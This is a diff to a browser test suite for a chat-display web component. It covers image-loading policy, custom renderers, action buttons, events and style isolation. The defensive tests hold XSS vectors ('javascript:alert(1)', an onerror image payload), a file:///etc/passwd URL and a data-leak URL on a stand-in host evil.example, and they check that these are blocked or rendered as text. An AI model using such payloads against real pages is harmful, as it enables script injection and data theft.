@@ -15,7 +15,6 @@ import { fileURLToPath } from "node:url";
 import AxeBuilder from "@axe-core/playwright";
 import { startServer } from "../../www/serve.mjs";
 import { engine, launchBrowser } from "../support/browser.mjs";
-import { imageRecordUrls } from "../support/xss.mjs";
 import * as cd from "../../js/node.mjs";
 import { conversation } from "../../bench/generate.mjs";
 import { sample, sampleConversation } from "../../www/sample.js";
@@ -51,6 +50,8 @@ before(async () => {
     ],
   }));
   browser = await launchBrowser();
+  // An image of the page's own origin (after the awaits: PNG is defined further down).
+  writeFileSync(join(served, "own.png"), PNG);
 });
 
 after(async () => {
@@ -1052,15 +1053,15 @@ test(`XSS: ${vectors.length} vectors in every field, through records and load, r
   }
   assert.deepEqual(await page.evaluate(() => window.__violations), [], "no CSP violation");
   assert.deepEqual(watch.dialogs, [], "no dialog");
-  // Image records with an http(s) URL load by policy (here: only a vector that is such a URL);
-  // nothing else may reach another host: no Markdown image loads on its own.
-  const byPolicy = imageRecordUrls(vectors);
-  assert.deepEqual(watch.requests.filter((r) => !byPolicy.has(r)), [], "no request to another host but image records'");
+  // Nothing reaches another host: images from other hosts, in records and in Markdown alike, wait
+  // for a click. (An image record's relative URL is the page's own origin and loads at once: the
+  // vectors that are such URLs give this server's 404s.)
+  assert.deepEqual(watch.requests, [], "no request to another host");
   assert.deepEqual(watch.console.filter((m) => !m.startsWith("Failed to load resource")), [], "no console errors");
   await page.close();
 });
 
-test("Markdown images wait behind a placeholder naming their host; imageHosts loads them at once; image records keep their policy", async () => {
+test("Markdown images and image records from other hosts wait behind a placeholder naming the host; imageHosts loads them at once", async () => {
   const { page, watch } = await open();
   const leak = "http://evil.example/leak?d=secret";
   await page.evaluate((leak) => {
@@ -1098,43 +1099,83 @@ test("Markdown images wait behind a placeholder naming their host; imageHosts lo
   await page.waitForFunction(() => window.__root().querySelector(".prose img").complete);
   assert.deepEqual(watch.requests, [`${leak}&n=2`]);
 
-  // Image records: http(s) URLs and base64 png / jpeg / gif / webp load; nothing else does.
+  // Image records: inline data (base64 png / jpeg / gif / webp), blob: and the page's own origin
+  // load at once, as does a host in imageHosts; any other http(s) host waits behind a
+  // placeholder naming it; nothing else is shown.
+  watch.requests.length = 0;
+  const origin = new URL(url).origin;
   const cases = [
-    [{ url: "https://img.example/a.png" }, true],
-    [{ url: "http://img.example/b.png" }, true],
-    [{ data: "iVBORw0KGgo=", mime_type: "image/png" }, true],
-    [{ data: "R0lGODlh", mime_type: "image/gif" }, true],
-    [{ url: "data:image/webp;base64,UklGRg==" }, true],
-    [{ url: "javascript:alert(1)" }, false],
-    [{ url: "data:image/svg+xml;base64,PHN2Zz4=" }, false],
-    [{ data: "PHN2Zz4=", mime_type: "image/svg+xml" }, false],
-    [{ url: "data:text/html;base64,PHNjcmlwdD4=" }, false],
-    [{ data: "not base64!", mime_type: "image/png" }, false],
-    [{ url: "blob:https://img.example/x" }, false],
-    [{ url: "file:///etc/passwd" }, false],
-    [{}, false],
+    [{ url: "https://img.example/a.png?d=secret" }, "waits", /img\.example/],
+    [{ url: "http://img.example/b.png" }, "waits", /img\.example/],
+    [{ url: "https://evil.example/listed.png" }, "loads"],
+    [{ url: `${origin}/fixtures/own.png` }, "loads"],
+    [{ url: "/fixtures/own.png?relative" }, "loads"],
+    [{ data: "iVBORw0KGgo=", mime_type: "image/png" }, "loads"],
+    [{ data: "R0lGODlh", mime_type: "image/gif" }, "loads"],
+    [{ url: "data:image/webp;base64,UklGRg==" }, "loads"],
+    [{ url: "BLOB" }, "loads"], // a blob: URL the page makes
+    [{ url: "blob:https://img.example/x" }, "blocked"], // another page's
+    [{ url: "javascript:alert(1)" }, "blocked"],
+    [{ url: "data:image/svg+xml;base64,PHN2Zz4=" }, "blocked"],
+    [{ data: "PHN2Zz4=", mime_type: "image/svg+xml" }, "blocked"],
+    [{ url: "data:text/html;base64,PHNjcmlwdD4=" }, "blocked"],
+    [{ data: "not base64!", mime_type: "image/png" }, "blocked"],
+    [{ url: "file:///etc/passwd" }, "blocked"],
+    [{}, "blocked"],
   ];
   const results = await page.evaluate(async (cases) => {
-    t.records = cases.map(([content], i) => ({ conversation_id: null, message_type: "assistant", content_type: "image", content: { ...content, alt_text: `case ${i}` }, sequence: i, status: "completed", tool_call_id: null, metadata: {} }));
+    t.imageHosts = ["evil.example"];
+    const blob = URL.createObjectURL(new Blob([Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="), (c) => c.charCodeAt(0))], { type: "image/png" }));
+    t.records = cases.map(([content], i) => ({ conversation_id: null, message_type: "assistant", content_type: "image", content: { ...(content.url === "BLOB" ? { url: blob } : content), alt_text: `case ${i}` }, sequence: i, status: "completed", tool_call_id: null, metadata: {} }));
     const out = [];
     for (let i = 0; i < cases.length; i++) {
       t.scrollToRecord(i);
       await window.__frames(3);
       const block = window.__record(i);
-      out.push({ img: block?.querySelector("img")?.getAttribute("src") ?? null, blocked: block?.querySelector(".image-blocked")?.textContent ?? null });
+      out.push({
+        img: block?.querySelector("img")?.getAttribute("src") ?? null,
+        hold: block?.querySelector(".image-hold")?.textContent ?? null,
+        blocked: block?.querySelector(".image-blocked")?.textContent ?? null,
+      });
     }
     return out;
   }, cases);
   results.forEach((r, i) => {
-    const [content, loads] = cases[i];
-    if (loads) {
-      assert.ok(r.img, `case ${i} loads: ${JSON.stringify(content)}`);
-      assert.equal(r.blocked, null);
-    } else {
-      assert.equal(r.img, null, `case ${i} is blocked: ${JSON.stringify(content)}`);
-      assert.match(r.blocked, /not shown/);
-    }
+    const [content, outcome, host] = cases[i];
+    const what = `case ${i} ${outcome}: ${JSON.stringify(content)}`;
+    assert.equal(r.img !== null, outcome === "loads", what);
+    assert.equal(r.hold !== null, outcome === "waits", what);
+    assert.equal(r.blocked !== null, outcome === "blocked", what);
+    if (host) assert.match(r.hold, host, `${what}: the placeholder names the host`);
+    if (outcome === "blocked") assert.match(r.blocked, /not shown/);
   });
+  await page.waitForTimeout(200);
+  assert.deepEqual(watch.requests, ["https://evil.example/listed.png"], "only the listed host's image left the page");
+
+  // A waiting image record loads on a click, after a cancelable cd-image; cancelled, it waits on.
+  const clicked = await page.evaluate(async () => {
+    const seen = [];
+    let cancel = true;
+    const listener = (event) => {
+      seen.push({ src: event.detail.src, kind: event.detail.kind, index: event.detail.index, type: event.detail.record.content_type, cancelable: event.cancelable, composed: event.composed });
+      if (cancel) event.preventDefault();
+    };
+    document.addEventListener("cd-image", listener);
+    t.scrollToRecord(0);
+    await window.__frames(3);
+    window.__record(0).querySelector(".image-hold").click();
+    await window.__frames(2);
+    const afterCancel = { img: !!window.__record(0).querySelector("img"), hold: !!window.__record(0).querySelector(".image-hold") };
+    cancel = false;
+    window.__record(0).querySelector(".image-hold").click();
+    await window.__frames(2);
+    document.removeEventListener("cd-image", listener);
+    return { seen, afterCancel, img: window.__record(0).querySelector("img")?.src ?? null };
+  });
+  assert.deepEqual(clicked.afterCancel, { img: false, hold: true }, "a cancelled cd-image leaves the placeholder");
+  assert.equal(clicked.seen.length, 2);
+  assert.deepEqual(clicked.seen[0], { src: "https://img.example/a.png?d=secret", kind: "load", index: 0, type: "image", cancelable: true, composed: true });
+  assert.equal(clicked.img, "https://img.example/a.png?d=secret", "then a click loads it");
   await clean(page, watch);
   await page.close();
 });
@@ -1665,7 +1706,11 @@ test("axe-core: no serious or critical violation with the sample, light and dark
   let runs = 0;
   for (const width of [1280, 390]) {
     const { page, watch } = await open({ width, height: 1600 });
-    await page.evaluate(async (sample) => { await t.load(sample); }, sample);
+    await page.evaluate(async (sample) => {
+      await t.load(sample);
+      // A task list: its checkboxes need a name (axe's `label` rule).
+      t.records = t.records.concat([{ conversation_id: null, message_type: "assistant", content_type: "text", content: { text: "Plan:\n\n- [x] Read the logs\n- [ ] Fix the bug" }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} }]);
+    }, sample);
     const n = await page.evaluate(() => t.records.length);
     // Every row, with its tool calls open, in the DOM at some point; axe checks what is in the DOM.
     const seen = new Set();
@@ -1703,4 +1748,322 @@ test("axe-core: no serious or critical violation with the sample, light and dark
   }
   assert.ok(runs >= 4);
   assert.deepEqual([...new Set(failures)], []);
+});
+
+// ---------------------------------------------------------------------------------------------
+// The element as a component apps build on: renderers, actions, events, style isolation.
+
+/** A short conversation with text, a tool call and its result, thinking, a cited answer. */
+function componentConversation() {
+  return [
+    rec("user", "text", { text: "Weather in Paris?" }),
+    rec("assistant", "thinking", { text: "Look it up." }),
+    rec("assistant", "tool_call", { call_id: "w1", name: "get_weather", arguments: { city: "Paris" } }, { sequence: 1, tool_call_id: "w1" }),
+    rec("tool", "tool_result", { tool_call_id: "w1", name: "get_weather", content: "18°C, sunny" }, { tool_call_id: "w1" }),
+    rec("assistant", "text", { text: "It is **18°C** and sunny. See [the forecast](https://weather.example/paris)." }, {
+      metadata: { citations: [citation({ url: "https://weather.example/paris", title: "Paris forecast" })] },
+    }),
+    rec("assistant", "text", { text: "Anything else?" }, { sequence: 1 }),
+  ];
+}
+
+test("renderers: by tool name and by content type, with the paired results and renderDefault; set again, rows in view change", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async (records) => {
+    t.records = records;
+    await window.__frames(3);
+    const calls = [];
+    t.renderers = {
+      "tool:get_weather": (record, ctx) => {
+        calls.push({ key: "tool", index: ctx.index, results: ctx.results.map((r) => r.content.content), streaming: ctx.streaming });
+        const card = document.createElement("section");
+        card.className = "weather-card";
+        card.textContent = `${record.content.arguments.city}: ${ctx.results[0]?.content.content ?? "…"}`;
+        return card;
+      },
+      thinking: (record, ctx) => {
+        calls.push({ key: "thinking", index: ctx.index });
+        const wrap = document.createElement("div");
+        wrap.className = "wrapped";
+        wrap.append(ctx.renderDefault());
+        return wrap;
+      },
+      text: () => null, // the default
+    };
+    await window.__frames(3);
+    const root = window.__root();
+    const first = {
+      card: root.querySelector(".weather-card")?.textContent ?? null,
+      cardRecord: root.querySelector(".weather-card")?.closest(".record")?.dataset.record ?? null,
+      wrappedThinking: !!root.querySelector(".wrapped details.thinking"),
+      text: root.querySelector('.record[data-record="4"] .prose strong')?.textContent ?? null,
+      resultRowHidden: root.querySelector('.row[data-index="3"]')?.hidden ?? null,
+      renderersKeys: Object.keys(t.renderers).sort(),
+    };
+    // Set again: the rows in view are built with the new renderers, without scrolling.
+    t.renderers = {};
+    await window.__frames(3);
+    const second = { card: !!root.querySelector(".weather-card"), head: !!root.querySelector('.record[data-record="2"] .tool-head') };
+    return { first, second, calls };
+  }, componentConversation());
+  assert.equal(out.first.card, "Paris: 18°C, sunny", "the tool's card shows the call and its paired result");
+  assert.equal(out.first.cardRecord, "2");
+  assert.equal(out.first.wrappedThinking, true, "renderDefault gives the element's own block to wrap");
+  assert.equal(out.first.text, "18°C", "a renderer that returns null keeps the default");
+  assert.equal(out.first.resultRowHidden, true, "the result shows in its call's row, not its own");
+  assert.deepEqual(out.first.renderersKeys, ["text", "thinking", "tool:get_weather"]);
+  assert.deepEqual(out.calls.find((c) => c.key === "tool"), { key: "tool", index: 2, results: ["18°C, sunny"], streaming: false });
+  assert.deepEqual(out.second, { card: false, head: true }, "renderers set to {} bring the default back");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("renderers are called only for rows that come into view, and one that throws or returns no Node costs only its row", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async () => {
+    const records = await (await fetch("/fixtures/big-records.json")).json();
+    let calls = 0;
+    t.renderers = {
+      text: (record, ctx) => {
+        calls++;
+        const node = ctx.renderDefault();
+        node.dataset.mine = "yes";
+        return node;
+      },
+    };
+    t.records = records;
+    await window.__frames(4);
+    t.scrollToRecord(5000);
+    await window.__frames(4);
+    const afterScroll = calls;
+    const errors = [];
+    t.addEventListener("cd-error", (event) => errors.push({ code: event.detail.code, path: event.detail.path, message: event.detail.message, cause: String(event.detail.cause) }));
+    t.renderers = {
+      text: (record, ctx) => { if (ctx.index % 2) throw new Error("boom"); return "<b>not a node</b>"; },
+      tool_call: () => { throw new Error("tool boom"); },
+    };
+    await window.__frames(4);
+    await new Promise((resolve) => setTimeout(resolve, 0));
+    const root = window.__root();
+    const rows = [...root.querySelectorAll(".row:not([hidden])")];
+    return {
+      n: records.length,
+      afterScroll,
+      errors,
+      rows: rows.length,
+      defaults: rows.filter((r) => r.querySelector(".record:not(.custom)")).length,
+      bold: root.querySelectorAll(".list b").length,
+      elements: window.__count(),
+    };
+  });
+  assert.ok(out.afterScroll > 0 && out.afterScroll < 400, `a renderer ran for the rows in view only (${out.afterScroll} calls for ${out.n} records)`);
+  assert.ok(out.errors.length > 0, "cd-error fired");
+  for (const e of out.errors) {
+    assert.equal(e.code, "invalid_input");
+    assert.match(e.path, /^\$\[\d+\]$/);
+    assert.match(e.message, /The renderer "(text|tool_call)" failed for the record at \$\[\d+\]/);
+  }
+  assert.ok(out.errors.some((e) => /not a DOM Node/.test(e.message)), "a string is refused");
+  assert.ok(out.errors.some((e) => /boom/.test(e.cause)), "the thrown error is the cause");
+  assert.equal(out.defaults, out.rows, "every row shows the default");
+  assert.equal(out.bold, 0, "a returned string is not parsed as HTML");
+  assert.ok(out.elements <= MAX_ELEMENTS);
+  await clean(page, watch);
+  await page.close();
+});
+
+test("actions: Copy under each assistant reply writes its text; the app's own fire cd-action; [] shows none; a throwing handler breaks nothing", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async (records) => {
+    const copied = [];
+    Object.defineProperty(navigator, "clipboard", { configurable: true, value: { writeText: async (text) => { copied.push(text); } } });
+    t.records = records;
+    await window.__frames(3);
+    const root = window.__root();
+    const bars = [...root.querySelectorAll(".actions")].map((bar) => ({
+      row: Number(bar.closest(".row").dataset.index), labels: [...bar.querySelectorAll("button")].map((b) => b.textContent),
+    }));
+    const seen = [];
+    document.addEventListener("cd-action", (event) => {
+      seen.push({ ...event.detail, record: event.detail.record.content.text ?? null, composed: event.composed, bubbles: event.bubbles });
+    });
+    root.querySelector(".actions button").click();
+    await new Promise((resolve) => setTimeout(resolve, 10));
+    t.actions = [{ id: "copy", label: "Copy" }, { id: "retry", label: "Retry" }];
+    await window.__frames(3);
+    // A handler that throws does not stop the element.
+    t.addEventListener("cd-action", () => { throw new Error("app bug"); });
+    window.addEventListener("error", (e) => e.preventDefault(), { once: true });
+    root.querySelector('.actions button[data-action="retry"]').click();
+    await window.__frames(2);
+    const labels = [...root.querySelector(".actions").querySelectorAll("button")].map((b) => b.textContent);
+    t.actions = [];
+    await window.__frames(3);
+    const none = root.querySelectorAll(".actions").length;
+    let refused = null;
+    try { t.actions = [{ label: "No id" }]; } catch (error) { refused = { name: error.name, code: error.code, path: error.path }; }
+    return { bars, copied, seen, labels, none, refused, actions: t.actions };
+  }, componentConversation());
+  // One bar per assistant message with text: the cited answer's message (records 4 and 5), on its last row.
+  assert.deepEqual(out.bars, [{ row: 5, labels: ["Copy"] }]);
+  const text = "It is **18°C** and sunny. See [the forecast](https://weather.example/paris).\n\nAnything else?";
+  assert.deepEqual(out.copied, [text], "Copy writes the message's text, Markdown kept");
+  assert.equal(out.seen[0].action, "copy");
+  assert.equal(out.seen[0].index, 4, "the message's first record");
+  assert.equal(out.seen[0].record, "It is **18°C** and sunny. See [the forecast](https://weather.example/paris).");
+  assert.equal(out.seen[0].text, text);
+  assert.equal(out.seen[0].composed, true);
+  assert.equal(out.seen[0].bubbles, true);
+  assert.equal(out.seen[1].action, "retry");
+  assert.deepEqual(out.labels, ["Copy", "Retry"]);
+  assert.equal(out.none, 0);
+  assert.deepEqual(out.refused, { name: "ChatDisplayError", code: "invalid_input", path: "$[0]" });
+  assert.deepEqual(out.actions, [], "a refused value leaves the actions as they were");
+  await page.close();
+});
+
+test("events: cd-link and cd-citation can stop a navigation, cd-toggle says what opened, cd-image comes before the zoom", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async (records) => {
+    t.records = records;
+    await window.__frames(3);
+    const root = window.__root();
+    const seen = [];
+    for (const type of ["cd-link", "cd-citation", "cd-toggle", "cd-image"]) {
+      document.addEventListener(type, (event) => {
+        const d = event.detail;
+        seen.push({ type, index: d.index, href: d.href, open: d.open, src: d.src, kind: d.kind, citation: d.citation?.title, cancelable: event.cancelable, composed: event.composed, contentType: d.record?.content_type });
+        if (type !== "cd-toggle") event.preventDefault();
+      });
+    }
+    const clicks = [];
+    // A navigation that went ahead would be a default the page can see as not prevented.
+    document.addEventListener("click", (event) => clicks.push(event.defaultPrevented));
+    root.querySelector('.prose a[href="https://weather.example/paris"]').click();
+    root.querySelector("a.citation").click();
+    root.querySelector('.record[data-record="2"] .tool-head').click();
+    await window.__frames(3);
+    root.querySelector("details.thinking summary").click();
+    await window.__frames(3);
+    t.records = [{ conversation_id: null, message_type: "assistant", content_type: "image", content: { data: "iVBORw0KGgo=", mime_type: "image/png", alt_text: "x" }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} }];
+    await window.__frames(3);
+    root.querySelector("button.zoom").click();
+    await window.__frames(2);
+    return { seen, clicks, zoomOpen: root.querySelector("dialog.zoom-view").open };
+  }, componentConversation());
+  const by = (type) => out.seen.filter((e) => e.type === type);
+  assert.deepEqual(by("cd-link"), [{ type: "cd-link", index: 4, href: "https://weather.example/paris", open: undefined, src: undefined, kind: undefined, citation: undefined, cancelable: true, composed: true, contentType: "text" }]);
+  assert.equal(by("cd-citation").length, 1);
+  assert.equal(by("cd-citation")[0].citation, "Paris forecast");
+  assert.equal(by("cd-citation")[0].index, 4);
+  assert.deepEqual(out.clicks, [true, true, false, false, false], "cancelling cd-link and cd-citation cancels the click's navigation");
+  assert.deepEqual(by("cd-toggle").map((e) => [e.index, e.open, e.contentType, e.cancelable]), [[2, true, "tool_call", false], [1, true, "thinking", false]]);
+  assert.deepEqual(by("cd-image").map((e) => [e.index, e.kind, e.cancelable]), [[0, "open", true]]);
+  assert.equal(out.zoomOpen, false, "a cancelled cd-image does not open the zoom");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("the host page's inherited text styles stop at the element; its custom properties theme it", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async (records) => {
+    // A constructed sheet: the page's CSP (style-src 'self') refuses a <style> element.
+    const style = new CSSStyleSheet();
+    style.replaceSync(`main { text-align: center; line-height: 3; letter-spacing: 4px; white-space: pre; font-style: italic; text-transform: uppercase; word-spacing: 9px; font-weight: 900; text-indent: 40px; }
+      #t { --cd-accent: rgb(1, 2, 3); --cd-line-height: 1.25; }`);
+    document.adoptedStyleSheets = [...document.adoptedStyleSheets, style];
+    const host = getComputedStyle(document.querySelector("main"));
+    if (host.textAlign !== "center" || host.fontStyle !== "italic") throw new Error("the host page's styles did not apply");
+    t.records = records;
+    await window.__frames(3);
+    const p = window.__root().querySelector('.record[data-record="4"] .prose p');
+    const cs = getComputedStyle(p);
+    const link = getComputedStyle(window.__root().querySelector(".prose a"));
+    return {
+      textAlign: cs.textAlign, letterSpacing: cs.letterSpacing, whiteSpace: cs.whiteSpace, fontStyle: cs.fontStyle,
+      textTransform: cs.textTransform, wordSpacing: cs.wordSpacing, fontWeight: cs.fontWeight, textIndent: cs.textIndent,
+      lineHeight: parseFloat(cs.lineHeight) / parseFloat(cs.fontSize), accent: link.color,
+    };
+  }, componentConversation());
+  assert.ok(["start", "left"].includes(out.textAlign), out.textAlign);
+  assert.equal(out.letterSpacing, "normal");
+  assert.equal(out.whiteSpace, "normal");
+  assert.equal(out.fontStyle, "normal");
+  assert.equal(out.textTransform, "none");
+  assert.equal(out.wordSpacing, "0px");
+  assert.equal(out.fontWeight, "400");
+  assert.equal(out.textIndent, "0px");
+  assert.ok(Math.abs(out.lineHeight - 1.25) < 0.01, `--cd-line-height applies (${out.lineHeight})`);
+  assert.equal(out.accent, "rgb(1, 2, 3)", "--cd-accent themes the links");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("a reply streamed into a loaded conversation lands after it, and the next reply after that one", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async (sample) => {
+    await t.load(sample);
+    const before = t.records;
+    const replies = [];
+    for (const name of ["anthropic_messages/thinking-then-text", "anthropic_messages/parallel-tool-calls"]) {
+      const acc = new api.StreamAccumulator("anthropic_messages");
+      const text = await (await fetch(`/streams/${name}.sse`)).text();
+      // Cut anywhere, as a network does.
+      for (let i = 0; i < text.length; i += 97) t.applyPatches(acc.push(text.slice(i, i + 97)));
+      replies.push(acc.records());
+      acc.free();
+      await window.__frames(2);
+    }
+    return { before, after: t.records, replies };
+  }, sample);
+  assert.ok(out.replies[0].length > 0 && out.replies[1].length > 0);
+  assert.deepEqual(out.after, [...out.before, ...out.replies[0], ...out.replies[1]], "the records shown stay; each reply follows the one before");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("fields a reader looks for: shown where they belong, or absent from the records for the reason docs/ELEMENT.md gives", async () => {
+  const { page, watch } = await open();
+  const inputs = {
+    compaction: { id: "m", type: "message", role: "assistant", model: "x", content: [{ type: "compaction", content: "MARK-compaction <b>bold</b>" }, { type: "text", text: "Hi" }], stop_reason: "end_turn", usage: { input_tokens: 1, output_tokens: 1 } },
+    todo: [{ conversation_id: "c", message_type: "assistant", content_type: "todo_snapshot", content: { todos: [{ id: 1, content: "Write it", status: "pending" }], summary: "MARK-todo <img src=x onerror=window.__xss()>" }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} }],
+    status: [{ conversation_id: "c", message_type: "user", content_type: "text", content: { text: "Hi" }, sequence: 0, status: "MARK-status", tool_call_id: null, metadata: {} }],
+    summary: [{ __type__: "Message", role: "assistant", content: [{ __type__: "Thinking", text: "The full reasoning.", summary: "MARK-summary" }, { __type__: "Text", text: "Hi" }] }],
+    summaryOnly: [{ __type__: "Message", role: "assistant", content: [{ __type__: "Thinking", summary: "MARK-summary-only" }] }],
+    serverLabel: { id: "r", object: "response", status: "completed", output: [{ type: "mcp_approval_request", id: "a1", server_label: "MARK-label", name: "delete_repo", arguments: "{}" }] },
+    invalidCall: [{ type: "ai", content: "Calling.", invalid_tool_calls: [{ name: "lookup", args: "{bad", id: "c1", error: "MARK-invalid" }] }],
+    uiFile: [{ id: "1", role: "user", parts: [{ type: "text", text: "Look" }] }, { id: "2", role: "assistant", parts: [{ type: "file", mediaType: "image/png", url: "https://files.example/MARK-file.png" }, { type: "text", text: "Made it." }] }],
+  };
+  const seen = await page.evaluate(async (inputs) => {
+    const out = {};
+    for (const [name, input] of Object.entries(inputs)) {
+      await t.load(input);
+      const text = [];
+      for (let i = 0; i < t.records.length; i++) {
+        t.scrollToRecord(i);
+        await window.__frames(3);
+        for (const head of window.__root().querySelectorAll('.tool-head[aria-expanded="false"], details:not([open]) > summary')) head.click();
+        await window.__frames(2);
+        const root = window.__root();
+        text.push(root.textContent, ...[...root.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.value)));
+      }
+      out[name] = { text: text.join("\n"), records: JSON.stringify(t.records) };
+    }
+    return out;
+  }, inputs);
+  assert.match(seen.compaction.text, /MARK-compaction <b>bold<\/b>/, "a compaction's summary is a notification banner, as text");
+  assert.match(seen.todo.text, /MARK-todo <img src=x onerror=window\.__xss\(\)>/, "a todo snapshot's summary in words shows under the counts, as text");
+  assert.match(seen.status.text, /status is invalid \(got "MARK-status"\)/, "the error names the value it refused");
+  assert.match(seen.summary.text, /The full reasoning\./);
+  assert.match(seen.summaryOnly.text, /MARK-summary-only/, "a thinking part with only a summary shows the summary");
+  // Not shown, with the reason in docs/ELEMENT.md ("What the records do not carry"): the
+  // records do not hold these fields, so nothing on screen can.
+  for (const [name, marker] of [["summary", "MARK-summary\""], ["serverLabel", "MARK-label"], ["invalidCall", "MARK-invalid"], ["uiFile", "MARK-file"]]) {
+    assert.ok(!seen[name].records.includes(marker.replace('"', "")) || name === "summary", `${name}: the records do not carry ${marker}`);
+    assert.ok(!seen[name].text.includes(marker.replace('"', "")) || name === "summary", `${name}: not on screen`);
+  }
+  assert.ok(!seen.summary.records.includes("MARK-summary"), "a thinking part's summary beside its text is not in the record");
+  assert.match(seen.invalidCall.text, /failed/, "the invalid call shows as failed");
+  await clean(page, watch);
+  await page.close();
 });
